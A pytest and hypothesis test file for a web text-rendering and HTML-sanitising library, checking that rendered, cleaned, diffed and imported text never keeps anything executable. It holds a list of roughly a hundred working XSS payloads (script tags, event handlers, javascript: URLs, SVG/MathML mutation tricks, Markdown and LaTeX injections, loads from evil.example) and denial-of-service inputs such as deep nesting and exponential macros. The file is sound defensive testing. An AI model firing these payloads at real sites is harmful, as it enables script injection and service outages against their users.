import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from slashmentor.base.text.characters import TooLong
from slashmentor.base.text.diff import render_diff
from slashmentor.base.text.fold import plain_text
from slashmentor.base.text.html import clean_html, clean_inline
from slashmentor.base.text.names import find_hashtags, find_mentions
from slashmentor.base.text.render import render, render_inline
from slashmentor.base.text.sanitise import sanitise
from slashmentor.base.text.slug import slugify_title
from slashmentor.base.text.tests.inspecting import dangers
from slashmentor.base.text.to_markdown import to_markdown

XSS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)" alt="a">',
    "<img src=`x` onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<img srcset="x 1x, javascript:alert(1) 2x" src="https://a.example/b.png">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml,x#y"/></svg>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math href="javascript:alert(1)">x</math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
    '<math><mtext><img src="x" onerror="alert(1)"></mtext></math>',
    '<math><annotation><img src=x onerror="alert(1)"></annotation></math>',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;vascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.example/x">x</a>',
    '<a href="//evil.example" onclick="alert(1)">x</a>',
    '<a href="https://a.example" onmouseover=alert(1) style="position:fixed;inset:0">x</a>',
    '<a href="https://a.example" target="_blank" rel="opener">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<p style="width:expression(alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "<template><img src=x onerror=alert(1)></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE x [<!ENTITY y 'alert'>]><p>&y;</p>",
    "<p id=location name=cookie class=notice>clobber</p>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://a.example/b.png)',
    '![x](https://a.example/b.png"onerror="alert(1))',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    "https://a.example/<img/src=x/onerror=alert(1)>",
    'https://a.example/"onmouseover="alert(1)',
    '```"onmouseover="alert(1)\nx\n```',
    "```<script>\nx\n```",
    "`<script>alert(1)</script>`",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{</annotation><script>alert(1)</script>}$",
    r"$\style{background:url(javascript:alert(1))}{x}$",
    r"$\class{x\" onclick=\"alert(1)}{y}$",
    "$</math><img src=x onerror=alert(1)>$",
    "$$</annotation></semantics></math><script>alert(1)</script>$$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "@<script>alert(1)</script>",
    "#<img/src=x/onerror=alert(1)>",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    "^[<img src=x onerror=alert(1)>]",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    ">! <script>alert(1)</script>",
    '<blockquote class="spoiler"><p onclick=alert(1)>x</p></blockquote>',
    '<p>\ufdd00\ufdd1 $x$ <a title="$y$">\ufdd07\ufdd1</a></p>',
    '<svg><style><a title="$x$ onmouseover=alert(1)">',
]


@pytest.mark.parametrize("attack", XSS)
def test_nothing_runs_whichever_door_it_comes_through(attack):
    doors = [
        render(attack).html,
        render_inline(attack).html,
        clean_html(attack, base_url="https://a.example/").html,
        clean_inline(attack).html,
        sanitise(attack),
        str(render_diff(attack, attack[::-1])),
    ]
    assert [dangers(door) for door in doors] == [[], [], [], [], [], []]


@pytest.mark.parametrize("attack", XSS)
def test_nothing_runs_after_an_imported_text_was_edited(attack):
    assert dangers(render(to_markdown(clean_html(attack, base_url="https://a.example/").html)).html) == []


HOSTILE = {
    "nested brackets": "[" * 100_000,
    "nested pictures": "![" * 50_000,
    "nested quotes": ">" * 100_000,
    "nested lists": "- " * 50_000,
    "deep lists": "\n".join(" " * (2 * depth) + "- a" for depth in range(300)),
    "nested notes": "^[" * 25_000 + "]" * 25_000,
    "emphasis": "*a_" * 33_000,
    "ticks": " ".join("`" * length for length in range(1, 440)),
    "dollars": "$" * 100_000,
    "formulas that never end": "$$a\n" * 25_000,
    "environments that never end": "\\begin{align}" * 7_000,
    "braces": "$" + "{" * 1_000 + "$",
    "a formula too long": "$" + "x" * 3_000 + "$",
    "definitions that double": "$" + "".join(rf"\def\a{i}{{\a{i + 1}\a{i + 1}}}" for i in range(40)) + "$",
    "mentions": "@ada " * 20_000,
    "at signs": "@" * 100_000,
    "brackets after an address": "https://a.example" + ")" * 90_000,
    "NUL": "a\0b" * 30_000,
    "lone surrogates": "a\ud800b" * 20_000,
    "right to left": "\u202e" * 30_000,
    "unclosed tags": "<a " * 33_000,
    "comments": "<!--" * 25_000,
    "elements": "<div>" * 20_000,
    "processing": '<?xml version="1.0" encoding="utf-16"?>' * 100,
    "frames": "<frameset><frame>" * 10,
    "spaces": " \n" * 50_000,
}


@pytest.mark.parametrize("source", HOSTILE.values(), ids=HOSTILE)
def test_hostile_texts_are_rendered_without_an_error(source):
    for made in (render(source), render_inline(source), clean_html(source, base_url="https://a.example/")):
        assert dangers(made.html) == []
        made.html.encode()
        made.text.encode()
    (
        find_mentions(source),
        find_hashtags(source),
        slugify_title(source),
        plain_text(source),
        render_diff(source, ""),
    )


def test_more_than_100_kilobytes_are_refused_with_a_sentence():
    with pytest.raises(TooLong) as refusal:
        render("é" * 50_001)
    assert refusal.value.sentence == "This text is too long: 100,002 bytes, where 100,000 are possible."


def test_a_long_address_used_often_does_not_make_a_huge_page():
    html = render(f"[a]: https://x.example/{'z' * 1_900}\n\n" + "[a] " * 20_000).html
    assert len(html) < 2_000_000


def test_no_text_turns_the_reading_direction_even_as_an_entity():
    assert render("a\u202eb &#x202E;c").html == "<p>ab c</p>\n"
    assert clean_html("<p>a&#x202e;b</p>", base_url="").html == "<p>ab</p>"


def test_ids_and_classes_of_ours_cannot_be_borrowed():
    html = clean_html(
        '<li id="fn-1"><a id="top" class="mention" role="doc-noteref" href="/x">y</a>', base_url=""
    ).html
    assert html == '<li><a href="/x">y</a></li>'


PIECES = st.sampled_from(
    [*XSS, "$x$", "**", "`", "\n", "\n\n", "> ", "- ", "    ", "|", "[^1]", "[^1]: ", "@ada", "$$", "\\", "<"]
)
TEXTS = st.one_of(st.text(), st.lists(st.one_of(PIECES, st.text(max_size=5)), max_size=12).map("".join))


@given(TEXTS)
@settings(max_examples=150, deadline=None)
def test_whatever_is_written_is_safe_to_show(source):
    for made in (render(source), render_inline(source), clean_html(source, base_url="https://a.example/")):
        assert dangers(made.html) == []
        assert len(made.excerpt) <= 200


@given(TEXTS)
@settings(max_examples=100, deadline=None)
def test_sanitising_again_changes_nothing(source):
    once = render(source).html
    assert sanitise(once) == once


@given(TEXTS)
@settings(max_examples=60, deadline=None)
def test_whatever_was_imported_can_be_edited(source):
    assert dangers(render(to_markdown(clean_html(source, base_url="").html)).html) == []
